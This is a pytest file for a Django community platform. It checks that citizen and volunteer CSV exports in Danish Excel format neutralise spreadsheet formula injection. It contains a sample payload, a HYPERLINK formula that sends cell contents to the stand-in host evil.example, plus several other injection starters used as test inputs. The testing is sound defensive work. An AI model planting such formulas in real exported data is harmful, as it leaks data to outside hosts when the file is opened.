"""Every CSV the platform hands out opens in Danish Excel and carries no live formula."""

import csv
import io

import pytest
from django.urls import reverse

from community.exports import inert
from community.tests.factories import CitizenFactory, UserFactory, coordinator, core_task

pytestmark = pytest.mark.django_db

HOSTILE = '=HYPERLINK("https://evil.example/?d="&A1,"Klik")'


def _rows(response) -> list[list[str]]:
    body = response.content.decode("utf-8")
    assert body.startswith("\ufeff"), "Excel needs the BOM to read æøå"
    return list(csv.reader(io.StringIO(body[1:]), delimiter=";"))


@pytest.mark.parametrize("start", ["=", "+", "-", "@", "\t", "\r", " =", "＝"])
def test_a_cell_that_a_spreadsheet_would_evaluate_becomes_text(start):
    assert inert(start + "1+1").startswith("'")


@pytest.mark.parametrize("value", ["Grethe", "Ærø 5", "8722 Hedensted", "", 42, None])
def test_ordinary_cells_are_left_as_they_are(value):
    assert inert(value) == ("" if value is None else str(value))


def test_a_citizens_formula_in_her_address_reaches_the_coordinator_as_text(client):
    alice = coordinator("social-omsorg", email="alice@example.dk")
    CitizenFactory(
        first_name="Signe",
        last_name="@SUM(1)",
        street=HOSTILE,
        core_tasks=[core_task("social-omsorg")],
    )
    client.force_login(alice)
    rows = _rows(client.get(reverse("community:citizen-export")))
    assert rows[0][:2] == ["Fornavn", "Efternavn"]
    signe = next(r for r in rows if r[0] == "Signe")
    assert signe[1] == "'@SUM(1)"
    assert signe[2].startswith("'=HYPERLINK(")
    assert not any(cell.startswith(("=", "+", "-", "@")) for row in rows for cell in row)


def test_the_volunteer_export_is_danish_excel_csv_with_labels_phone_and_no_formulas(client):
    from volunteers.tests.factories import VolunteerFactory

    VolunteerFactory(
        user=UserFactory(first_name="+Mette", last_name="Frivillig", phone="20 30 40 50")
    )
    client.force_login(coordinator("social-omsorg"))
    rows = _rows(client.get(reverse("volunteers:export")))
    header, mette = rows[0], next(r for r in rows[1:] if "Frivillig" in r)
    assert "Telefon" in header and "Status" in header
    assert mette[header.index("Fornavn")] == "'+Mette"
    assert mette[header.index("Telefon")] == "20 30 40 50"
    assert mette[header.index("Vil gerne")] == "Besøgsven"
    assert mette[header.index("Sprog")] == "Dansk"
    assert mette[header.index("Status")] not in ("approved", "applied")
